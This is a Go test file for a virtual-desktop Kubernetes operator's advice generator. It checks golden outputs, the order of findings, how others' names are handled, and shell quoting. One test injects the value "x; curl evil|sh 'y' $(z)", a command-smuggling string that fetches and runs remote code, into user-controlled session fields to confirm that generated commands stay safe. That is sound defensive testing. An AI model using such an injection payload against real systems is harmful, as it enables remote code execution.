package story

import (
	"flag"
	"go/ast"
	"go/parser"
	"go/token"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/yaml"

	vdi "github.com/vdi-platform/vdi-platform/operator/api/v1alpha1"
	"github.com/vdi-platform/vdi-platform/platform/wire"
	"github.com/vdi-platform/vdi-platform/renderer"
)

var update = flag.Bool("update", false, "rewrite the golden outputs (make golden); read the diff before committing it")

// situation is a golden input: the facts, and what their story has to do.
type situation struct {
	About string `json:"about"`
	Facts `json:",inline"`
}

// golden is a golden output.
type golden struct {
	About string `json:"about"`
	Story `json:",inline"`
}

func situations(t *testing.T) map[string]situation {
	t.Helper()
	files, err := filepath.Glob("testdata/*.in.yaml")
	require.NoError(t, err)
	require.NotEmpty(t, files)
	all := map[string]situation{}
	for _, file := range files {
		text, err := os.ReadFile(file)
		require.NoError(t, err)
		var in situation
		require.NoError(t, yaml.UnmarshalStrict(text, &in), file)
		require.NotEmpty(t, in.About, file)
		all[strings.TrimSuffix(filepath.Base(file), ".in.yaml")] = in
	}
	return all
}

func TestGolden(t *testing.T) {
	all := situations(t)
	for name, in := range all {
		t.Run(name, func(t *testing.T) {
			text, err := yaml.Marshal(golden{in.About, Of(in.Facts)})
			require.NoError(t, err)
			file := "testdata/" + name + ".out.yaml"
			if *update {
				require.NoError(t, os.WriteFile(file, text, 0o644))
			}
			want, err := os.ReadFile(file)
			require.NoError(t, err)
			assert.Equal(t, string(want), string(text))
		})
	}
	outputs, err := filepath.Glob("testdata/*.out.yaml")
	require.NoError(t, err)
	assert.Len(t, outputs, len(all), "every output has its input")
}

// Every story says what to do, and by whom; topics come in the order in which they are asked.
func TestEverySituationSaysWhatToDo(t *testing.T) {
	order := []Topic{TopicIs, TopicWaits, TopicPlace, TopicRemedy, TopicEnds, TopicNext, TopicEvent, TopicUnread}
	for name, in := range situations(t) {
		last, remedies := 0, 0
		for _, finding := range Of(in.Facts).Findings {
			i := slices.Index(order, finding.Topic)
			assert.GreaterOrEqual(t, i, last, name)
			last = i
			assert.NotEmpty(t, finding.Text, name)
			assert.Equal(t, finding.Topic == TopicRemedy, finding.By != "", name)
			assert.NotContains(t, finding.Text+finding.Command, "%!", name)
			if finding.Topic == TopicRemedy {
				remedies++
			}
		}
		assert.Positive(t, remedies, "%s says what to do", name)
	}
}

// Names of others are for administrators.
func TestNamesOfOthers(t *testing.T) {
	for name, in := range situations(t) {
		for _, finding := range Of(in.Facts).Findings {
			for _, other := range in.Others {
				if finding.Topic == TopicPlace && !in.Names {
					assert.NotContains(t, finding.Text, other.Name, name)
				}
			}
		}
	}
}

// A reason that is added to the API needs advice, or a word here of why it needs none.
func TestEveryReasonHasAdvice(t *testing.T) {
	needNone := []string{
		vdi.ReasonAsExpected, vdi.ReasonSuspended, vdi.ReasonTerminating, // said by the phase
		vdi.ReasonDisabled, vdi.ReasonNotVerified, // said by a condition that is fine
		vdi.ReasonTimeout, vdi.ReasonIdle, vdi.ReasonBudget, vdi.ReasonDrain, vdi.ReasonTooLong, // of ExpiringSoon
		vdi.ReasonNewRevision, // of UpdatePending
	}
	file, err := parser.ParseFile(token.NewFileSet(), "../api/v1alpha1/conditions.go", nil, 0)
	require.NoError(t, err)
	found := 0
	ast.Inspect(file, func(n ast.Node) bool {
		spec, ok := n.(*ast.ValueSpec)
		if !ok || !strings.HasPrefix(spec.Names[0].Name, "Reason") {
			return true
		}
		reason, err := strconv.Unquote(spec.Values[0].(*ast.BasicLit).Value)
		require.NoError(t, err)
		_, advised := advice()[reason]
		assert.NotEqual(t, advised, slices.Contains(needNone, reason), reason)
		found++
		return true
	})
	require.Greater(t, found, 40)
}

// Every kind of advice speaks, also where no more than the session could be read.
func TestAdviceNeedsNoMoreThanTheSession(t *testing.T) {
	for reason, advise := range advice() {
		findings := advise(Facts{Session: &vdi.VDISession{}})
		assert.NotEmpty(t, findings, reason)
		for _, finding := range findings {
			assert.NotEmpty(t, finding.Text, reason)
			assert.NotEmpty(t, finding.By, reason)
		}
	}
}

func TestHomeClaimName(t *testing.T) {
	assert.Equal(t, renderer.HomeClaimName("alice"), homeClaimName("alice"))
}

// Nothing that is advised ends a desktop whose home lasts only as long, or starts one without
// its home.
func TestAdviceNeverCostsAHome(t *testing.T) {
	reasons := slices.Collect(maps.Keys(advice()))
	for _, home := range []string{vdi.ReasonHomeLeaving, vdi.ReasonHomeMissing, vdi.ReasonHomeLost} {
		for _, reason := range append(reasons, vdi.ReasonAsExpected, vdi.ReasonSuspended, vdi.ReasonNewRevision) {
			for _, phase := range []vdi.Phase{vdi.PhasePending, vdi.PhaseCreating, vdi.PhaseRunning, vdi.PhaseSuspended, vdi.PhaseFailed} {
				for _, policy := range []vdi.RunPolicy{vdi.RunPolicyRunning, vdi.RunPolicySuspended} {
					s := &vdi.VDISession{Spec: vdi.VDISessionSpec{RunPolicy: policy}}
					s.Status = vdi.VDISessionStatus{
						Phase: phase, PodName: "alice", LastExit: &vdi.ExitStatus{Reason: "OOMKilled"},
						Conditions: []metav1.Condition{
							{Type: vdi.ConditionReady, Reason: reason},
							{Type: vdi.ConditionHomeReady, Reason: home},
							{Type: vdi.ConditionUpdatePending, Reason: reason},
						},
					}
					findings := remedies(Facts{Session: s})
					assert.NotEmpty(t, findings)
					for _, finding := range findings {
						for _, word := range []string{"suspend", "delete", "resume"} {
							assert.NotContains(t, finding.Command, word, "%s, %s, %s, %s", home, reason, phase, policy)
						}
					}
				}
			}
		}
	}
}

// What people write into a session becomes no command of whoever follows the advice.
func TestCommandsAreNotWrittenByUsers(t *testing.T) {
	const evil = "x; curl evil|sh 'y' $(z)"
	for reason, advise := range advice() {
		s := &vdi.VDISession{}
		s.Name, s.Namespace = "alice", "desktops"
		s.Spec.User, s.Spec.Template, s.Spec.Persistence.ExistingClaim = evil, "plain", evil
		for _, finding := range advise(Facts{Session: s}) {
			assert.NotContains(t, strings.ReplaceAll(finding.Command, Quote(evil), ""), "evil", reason)
		}
		s.Status.Home = &vdi.HomeStatus{ClaimName: "files"}
		for _, finding := range advise(Facts{Session: s}) {
			if strings.Contains(finding.Command, "describe pvc") {
				assert.Contains(t, finding.Command, " files", "%s: the claim that is in use", reason)
			}
		}
	}
}

func TestQuote(t *testing.T) {
	for text, want := range map[string]string{
		"alice@example.com": "alice@example.com", "": "''", "eve o'hara": `'eve o'\''hara'`, "$(x)": "'$(x)'", "=ls": "'=ls'", "a=b": "a=b",
	} {
		assert.Equal(t, want, Quote(text))
	}
}

// Groups can be given to a session that has none at any time, and else while no desktop runs.
func TestGroupsComeFirst(t *testing.T) {
	s := &vdi.VDISession{Status: vdi.VDISessionStatus{PodName: "alice"}}
	first := func() Finding { return forTemplateOfOthers(Facts{Session: s})[0] }
	assert.Contains(t, first().Text, "spec.groups")
	assert.NotContains(t, first().Command, "suspend")
	s.Spec.Groups = []string{"staff"}
	assert.Contains(t, first().Text, "spec.groups")
	assert.Contains(t, first().Command, "suspend")
}

// A claim is handed over to somebody.
func TestClaimIsHandedToNobody(t *testing.T) {
	s := &vdi.VDISession{}
	for _, finding := range forHomeOfAnother(Facts{Session: s}) {
		assert.NotContains(t, finding.Command, "label")
	}
	s.Name, s.Status.Identity = "alice", "abc"
	assert.Contains(t, forHomeOfAnother(Facts{Session: s})[1].Command, wire.LabelHomeFor+"=abc")
}
